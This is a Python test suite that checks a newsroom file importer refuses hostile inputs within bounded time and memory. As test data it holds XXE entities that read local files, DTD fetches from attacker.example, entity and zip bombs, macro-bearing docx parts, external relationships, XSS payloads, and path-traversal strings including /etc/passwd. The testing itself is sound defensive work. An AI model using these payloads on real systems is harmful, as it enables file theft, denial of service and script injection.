"""Files that are meant to harm: refused in words, in bounded time and memory. Nothing is opened that isn't named."""

import json
import os
import resource
import socket
import struct
import time
import zipfile
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest

from releases.desk.importing import files
from releases.desk.importing.arrival import Arrival, Unreadable
from releases.desk.importing.forms import package
from releases.models.asset import Asset
from tests.arrivals import context, remarks
from tests.importing import imports
from tests.ingest import media
from tests.newsrooms import Post, docx, paragraph, wordpress

SECRET = "the secret words"
BODY = paragraph("A mission to Phobos", "Title") + paragraph("The lead.")
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RSS = '<rss version="2.0"><channel><title>News</title><item><title>A mission</title>{}</item></channel></rss>'
WXR = (
    '<rss version="2.0" xmlns:wp="http://wordpress.org/export/1.2/"><channel><item><title>A</title>{}'
    "<wp:post_type>post</wp:post_type><wp:status>publish</wp:status></item></channel></rss>"
)


@pytest.fixture(autouse=True)
def no_network(monkeypatch):
    """Whoever looks up a name or opens a connection fails the test."""

    def refused(*_: Any) -> None:
        pytest.fail("somebody asked the network")

    monkeypatch.setattr(socket, "getaddrinfo", refused)
    monkeypatch.setattr(socket.socket, "connect", refused)


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET)
    return path


def read(path: Path, content: bytes | str = b"", *folders: Path) -> list[Any]:
    if content:
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return [piece.outcome for piece in files.read(path, context(path.name, *folders))]


# --- XML --------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("frame", [RSS, WXR])
def test_no_file_is_read_through_an_entity(tmp_path, secret, frame):
    doctype = f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{secret.as_uri()}">]>'

    (refusal,) = read(tmp_path / "news.xml", doctype + frame.format("<description>&x;</description>"))

    assert refusal.reason == "it declares a DTD, which could fetch or multiply anything: take the DOCTYPE out"
    assert SECRET not in str(refusal)


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE rss SYSTEM "http://attacker.example/x.dtd">',
        '<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://attacker.example/x.dtd"> %x;]>',
        "<!DOCTYPE rss [" + '<!ENTITY a "aaaaaaaaaa">' + "".join(
            f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
        ) + "]>",
    ],
)  # fmt: skip
@pytest.mark.parametrize("frame", [RSS, WXR])
def test_bombs_of_entities_and_foreign_dtds_are_refused(tmp_path, doctype, frame):
    started = time.monotonic()

    (refusal,) = read(tmp_path / "news.xml", doctype + frame.format("<description>&j;</description>"))

    assert "it declares a DTD" in refusal.reason
    assert time.monotonic() - started < 5


def test_a_feed_nested_without_end_is_refused(tmp_path):
    (refusal,) = read(tmp_path / "news.rss", RSS.format("<a>" * 5000 + "</a>" * 5000))

    assert refusal.reason == "more than 100 elements stand inside one another here"


def test_an_item_of_too_many_elements_is_refused(tmp_path):
    (refusal,) = read(tmp_path / "export.xml", WXR.format("<category>a</category>" * 30_000))

    assert refusal.reason == "more than 20000 elements in one item"


@pytest.mark.parametrize(
    "giant",
    [
        "<description>{}</description>",
        '<description a="{}"/>',
        "<!--{}-->",
        "<?a {}?>",
        "<description><![CDATA[{}]]></description>",
    ],
)
def test_a_line_of_a_hundred_megabytes_is_refused_long_before_its_end(tmp_path, giant):
    path = tmp_path / "export.xml"
    before, after = WXR.format(giant).split("{}")
    with path.open("w") as file:
        file.write(before)
        for _megabyte in range(100):
            file.write("x" * 2**20)
        file.write(after)
    most, started = _memory(), time.monotonic()

    (refusal,) = read(path)

    assert refusal.reason == "what begins in line 1 is larger than 8 MB"
    assert _memory() - most < 200 * 2**20
    assert time.monotonic() - started < 20


def test_a_large_export_is_read_piece_by_piece(tmp_path):
    path = tmp_path / "export.xml"
    frame = wordpress(Post(1, content="MARK")).decode()
    item = frame[frame.index("<item>") : frame.index("</channel>")]
    with path.open("w") as file:
        file.write(frame[: frame.index("<item>")])
        for _post in range(60):
            file.write(item.replace("MARK", "").replace("<wp:post_type>", f"<a>{'x' * 2**20}</a><wp:post_type>"))
        file.write("</channel></rss>")
    most = _memory()

    count = sum(isinstance(piece.outcome, Arrival) for piece in files.read(path, context()))

    assert count == 60
    assert _memory() - most < 60 * 2**20


def _memory() -> int:
    """The most that this process has held so far, in bytes."""
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024


# --- JSON, HTML, text -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "most"), [("a.json", 20), ("a.html", 5), ("a.md", 5), ("a.docx", 100), ("a.rss", 20)])
def test_files_larger_than_any_release_are_not_read(tmp_path, name, most):
    path = tmp_path / name
    with path.open("wb") as file:
        file.truncate(most * 2**20 + 1)

    (refusal,) = read(path)

    assert refusal.reason == f"larger than {most} MB"


@pytest.mark.parametrize("unit", ["<div>", "<b>", "<table><tr><td>", "<ul><li>", "<a href='x'>"])
def test_a_page_nested_without_end_is_refused_at_once(tmp_path, unit):
    started = time.monotonic()

    (refusal,) = read(tmp_path / "page.html", "<h1>Title</h1>\n" + unit * 200_000)

    assert (refusal.line, refusal.reason) == (2, "more than 200 elements stand inside one another here")
    assert time.monotonic() - started < 5


def test_nothing_that_runs_is_left_of_a_page(tmp_path):
    (arrival,) = read(
        tmp_path / "page.html",
        "<h1>Title</h1><p>The lead.</p><p onclick='x()'>A <script>alert(1)</script><svg onload=x()></svg>"
        "<a href='java&#9;script:x()'>b</a> <iframe src='//attacker.example'></iframe><style>p{}</style></p>",
    )

    assert arrival.body == "<p>A b</p>"


# --- zip --------------------------------------------------------------------------------------------------------------


def test_a_bomb_in_a_document_is_refused(tmp_path):
    (refusal,) = read(tmp_path / "a.docx", docx(BODY, parts={"word/media/image1.png": b"\0" * (package.MOST_UNPACKED)}))

    assert refusal.reason == "unpacked it is larger than 200 MB"


def test_a_part_that_lies_about_its_size_is_counted(tmp_path):
    content = bytearray(docx(BODY, parts={"word/settings.xml": b" " * (package.LARGEST_XML * 2)}))
    told = struct.pack("<I", package.LARGEST_XML * 2)
    (tmp_path / "a.docx").write_bytes(bytes(content).replace(told, struct.pack("<I", 10)))

    (refusal,) = read(tmp_path / "a.docx")

    assert isinstance(refusal, Unreadable)


@pytest.mark.parametrize(
    ("parts", "reason"),
    [
        ({"word/settings.xml": b" " * (package.LARGEST_XML + 1)}, "its part word/settings.xml is larger than 5 MB"),
        ({"word/settings.xml": "<a>" + "<b/>" * 700_000 + "</a>"}, "more than 300000 elements"),
        ({"word/settings.xml": "<a>" * 200 + "</a>" * 200}, "more than 100 elements stand inside one another"),
        ({f"word/{n}.bin": b"" for n in range(2001)}, "it has more than 2000 parts"),
        ({"word/vbaProject.bin": b"x"}, "it holds macros: save it as .docx, without them"),
        ({"word/styles.xml": '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'}, "it declares a DTD"),
        ({"word/footnotes.xml": '<!DOCTYPE a SYSTEM "http://attacker.example/x.dtd"><a/>'}, "it declares a DTD"),
    ],
)
def test_what_a_document_may_not_hold(tmp_path, parts, reason):
    (refusal,) = read(tmp_path / "a.docx", docx(BODY, parts=parts))

    assert reason in refusal.reason


@pytest.mark.parametrize("kind", ["oleObject", "frame", "subDocument", "aFChunk"])
def test_parts_that_lie_elsewhere_are_refused(tmp_path, kind):
    relation = f'<Relationship Id="rX" Type="{R}/{kind}" Target="http://attacker.example/x" TargetMode="External"/>'

    (refusal,) = read(tmp_path / "a.docx", docx(BODY, relations=relation))

    assert refusal.reason == (
        f"a part of it ({kind}) lies elsewhere, “http://attacker.example/x”: put it into the document, or take it out"
    )


def test_two_parts_of_one_name_are_refused(tmp_path):
    packed = BytesIO(docx(BODY))
    with zipfile.ZipFile(packed, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("word/document.xml", "<a/>")

    (refusal,) = read(tmp_path / "a.docx", packed.getvalue())

    assert refusal.reason == "it has two parts of the same name"


def test_a_document_under_lock_is_refused(tmp_path):
    content = bytearray(docx(BODY))
    entry = content.index(b"PK\x01\x02")
    content[entry + 8] |= 1

    (refusal,) = read(tmp_path / "a.docx", bytes(content))

    assert refusal.reason == "it is locked with a password: save it without one"


# --- paths ------------------------------------------------------------------------------------------------------------


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A folder with pictures around it and links that lead out of it."""
    (tmp_path / "outside.jpg").write_bytes(media.picture("JPEG"))
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "link.jpg").symlink_to(tmp_path / "outside.jpg")
    (folder / "door").symlink_to(tmp_path)
    (folder / "loop.jpg").symlink_to(folder / "loop.jpg")
    os.mkfifo(folder / "pipe.jpg")
    (folder / "sub").mkdir()
    return folder


ESCAPES = [
    "../outside.jpg",
    "sub/../../outside.jpg",
    "%2e%2e/outside.jpg",
    "..%2Foutside.jpg",
    "link.jpg",
    "door/outside.jpg",
    "https://old.example/wp-content/uploads/../outside.jpg",
    "https://old.example/wp-content/uploads/%2e%2e/outside.jpg",
]


@pytest.mark.parametrize("address", ESCAPES)
@pytest.mark.parametrize("form", ["html", "json", "xml", "rss"])
def test_no_path_leads_out_of_its_folder(folder, address, form):
    contents = {
        "html": f"<h1>Title</h1><p>The lead.</p><img src='{address}'>",
        "json": json.dumps(
            {
                "uri": "a",
                "headlines": [{"value": "Title"}],
                "associations": [{"type": "picture", "renditions": [{"href": address}]}],
            }
        ),
        "xml": wordpress(Post(12, content=f"<p>The lead.</p><img src='{address}'>")).decode(),
        "rss": RSS.format(f'<enclosure url="{address}"/>'),
    }

    (arrival,) = read(folder / f"a.{form}", contents[form], folder)

    assert arrival.assets == ()
    assert any("was not taken: its path leads out of the folder" in remark for remark in remarks(arrival))


@pytest.mark.parametrize(
    "address", ["/etc/passwd", "file:///etc/passwd", "//attacker.example/a.jpg", "loop.jpg", "pipe.jpg", "sub", "%00"]
)  # fmt: skip
def test_what_is_no_file_beside_it_is_not_opened(folder, address):
    (arrival,) = read(folder / "a.html", f"<h1>Title</h1><p>The lead.</p><img src='{address}' alt='seen'>", folder)

    assert arrival.assets == ()
    assert any("was not taken" in remark for remark in remarks(arrival))


@pytest.mark.django_db
def test_a_page_takes_nothing_from_outside_its_folder(folder):
    (folder / "a.html").write_text("<h1>Title</h1><p>The lead.</p><img src='../outside.jpg'><img src='link.jpg'>")

    imports(folder / "a.html")

    assert not Asset.objects.exists()


def test_a_pipe_or_a_device_is_no_file(folder):
    for path in (folder / "pipe.jpg", Path("/dev/zero")):
        (refusal,) = read(path)
        assert refusal.reason == "this is no file"
